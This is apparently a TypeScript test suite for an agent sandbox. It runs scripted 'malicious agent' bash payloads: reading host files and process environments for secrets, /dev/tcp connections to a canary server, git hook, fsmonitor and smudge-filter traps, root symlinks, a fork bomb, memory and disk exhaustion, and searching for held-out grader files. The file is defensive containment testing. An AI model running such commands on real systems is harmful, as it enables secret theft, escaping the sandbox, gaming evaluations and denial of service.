/**
 * An agent that means harm, in a sandbox: it tries to read, write, reach and leave traps. Nothing on the host changes, and where its
 * machine is stopped by a limit, the run ends with a typed reason.
 */
import assert from "node:assert/strict";
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { createServer, type AddressInfo } from "node:net";
import { once } from "node:events";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { suite, test } from "node:test";
import { eventsOfType, summaryOf } from "../harness/cli-process.ts";
import { createTestRepository, type TestRepository, writeFiles } from "../harness/test-repository.ts";

const SCRIPT = "harm.sh";
const PLAN = "---\ngates:\n  tests: test -f done.txt\n---\n## Task: Do it\nMake done.txt.\n";

/** A repository whose plan is worked on by a script of its own. */
function createVictim(script: string): TestRepository {
  return createTestRepository({
    project: { "plan.md": PLAN, [SCRIPT]: `${script}\necho done > done.txt\necho TASK_COMPLETE\n` },
  });
}

const RUN = [
  "run",
  "plan.md",
  "--agent",
  "command",
  "--agent-command",
  `bash ${SCRIPT}`,
  "--machine",
  "sandbox",
  "--json",
];

/** What an agent must neither read nor change, and a server that it must not reach. */
async function withCanary(
  act: (canary: { file: string; port: number; hits: () => number }) => Promise<void>,
): Promise<void> {
  const folder = mkdtempSync(join(tmpdir(), "cloister-canary-"));
  const file = join(folder, "canary");
  writeFileSync(file, "untouched");
  let hits = 0;
  const server = createServer((socket) => {
    hits += 1;
    socket.destroy();
  }).listen(0, "127.0.0.1");
  await once(server, "listening");
  try {
    await act({ file, port: (server.address() as AddressInfo).port, hits: () => hits });
    assert.equal(readFileSync(file, "utf8"), "untouched");
  } finally {
    server.close();
    rmSync(folder, { recursive: true, force: true });
  }
}

suite("an agent that means harm, in a sandbox", { concurrency: 2 }, () => {
  test("can't read the host's files, change them, or reach its servers; what it tried is in the journal", () =>
    withCanary(async ({ file, port, hits }) => {
      using victim = createVictim(`
cat ${file} > stolen.txt 2>&1
echo changed > ${file}
cat /proc/1/environ /proc/*/environ 2>/dev/null | tr '\\0' '\\n' >> stolen.txt
env >> stolen.txt
exec 3<>/dev/tcp/127.0.0.1/${port}
printf 'CONNECT 127.0.0.1:${port} HTTP/1.1\\r\\nHost: 127.0.0.1:${port}\\r\\n\\r\\n' > request
exec 4<>/dev/tcp/127.0.0.1/3128 && cat request >&4 && head -1 <&4 > answer.txt`);
      const end = await victim.run(RUN, { env: { MY_SECRET: "canary-of-the-environment" } });
      assert.equal(end.code, 0, end.stderr + end.stdout.slice(-2000));
      assert.equal(hits(), 0);
      const { branch } = summaryOf(end);
      const stolen = victim.git("show", `${branch}:stolen.txt`);
      assert.doesNotMatch(stolen, /untouched|canary-of-the-environment/);
      assert.match(stolen, /No such file/);
      assert.match(victim.git("show", `${branch}:answer.txt`), /403/);
      const [decided] = eventsOfType(end, "egress_decided");
      assert.deepEqual([decided?.host, decided?.port, decided?.allowed], ["127.0.0.1", port, false]);
    }));

  test("leaves no trap behind: links, hooks and settings of git do nothing on the host", () =>
    withCanary(async ({ file }) => {
      using victim = createVictim(`
ln -s ${file} LEARNINGS.md
ln -sf ${file} plan.md
mkdir -p sub && ln -s / sub/root
printf '#!/bin/sh\\necho changed > ${file}\\n' > .git/hooks/post-checkout
chmod +x .git/hooks/post-checkout
git config core.fsmonitor "echo changed > ${file}"
git config core.hooksPath .git/hooks
printf '* filter=trap\\n' > .gitattributes
git config filter.trap.smudge "echo changed > ${file}"`);
      const end = await victim.run(RUN);
      assert.equal(end.code, 0, end.stderr + end.stdout.slice(-2000));
      const merged = victim.git("merge", "--no-edit", summaryOf(end).branch);
      assert.match(merged, /done\.txt/);
      assert.equal(victim.git("config", "--list").includes("trap"), false);
      assert.equal(existsSync(join(victim.root, ".git/hooks/post-checkout")), false);
    }));

  test("finds nothing of a held-out gate afterwards: neither as a file nor in the machine's repository", async () => {
    const plan =
      "---\ngates:\n  kept: { command: test -f ok-2.txt && test -s hidden/check.txt, heldOutFiles: HELD_OUT }\n---\n## Task: Do it\nMake it.\n";
    using victim = createTestRepository({
      project: {
        "plan.md": plan,
        [SCRIPT]: `touch ok-$CLOISTER_ITERATION.txt
grep -r "zq[0-9]-kept-back" . /tmp "$HOME" > found.txt 2>/dev/null
git cat-file --batch-all-objects --batch >> objects.bin 2>/dev/null
grep -a "zq[0-9]-kept-back" objects.bin >> found.txt; rm objects.bin
echo TASK_COMPLETE
`,
      },
    });
    // Put together here: a machine that can read this file must not find the mark in it.
    const heldOut = join(victim.folder, "held-out");
    writeFiles(heldOut, { "hidden/check.txt": `${["zq7", "kept", "back"].join("-")}\n` });
    writeFiles(victim.root, { "plan.md": plan.replace("HELD_OUT", heldOut) });
    victim.git("commit", "-qam", "plan");
    const end = await victim.run(RUN);
    assert.equal(end.code, 0, end.stderr + end.stdout.slice(-2000));
    const { branch, iterations } = summaryOf(end);
    assert.equal(iterations, 2, "the gate ran in the first, and saw the held-out file in the second");
    assert.equal(victim.git("show", `${branch}:found.txt`), "");
  });

  test("is stopped by the limit on processes when it forks without end, and the run says so", async () => {
    using victim = createVictim("bomb() { bomb | bomb & }; bomb; sleep 60");
    const end = await victim.run(RUN, { env: { CLOISTER_MACHINE_PROCESSES: "64" } });
    assert.equal(end.code, 9, end.stderr + end.stdout.slice(-2000));
    const { reason, detail } = summaryOf(end);
    assert.equal(reason, "machine_failed");
    assert.match(detail ?? "", /process/i);
  });

  test("is stopped by the limit on memory when it takes all that it can", async () => {
    using victim = createVictim("tail -c 3000000000 /dev/zero | tail -n 1 > /dev/null; sleep 60");
    const end = await victim.run(RUN, { env: { CLOISTER_MACHINE_MEMORY_MIB: "128" } });
    assert.equal(end.code, 9, end.stderr + end.stdout.slice(-2000));
    assert.match(summaryOf(end).detail ?? "", /memory/i);
  });

  test("is stopped by the limit on the disk when it fills it", async () => {
    using victim = createVictim("dd if=/dev/zero of=big bs=1M count=400 2>/dev/null; sleep 60");
    const end = await victim.run(RUN, { env: { CLOISTER_MACHINE_DISK_MIB: "100" } });
    assert.equal(end.code, 9, end.stderr + end.stdout.slice(-2000));
    assert.match(summaryOf(end).detail ?? "", /more than its 100 MiB/);
  });
});
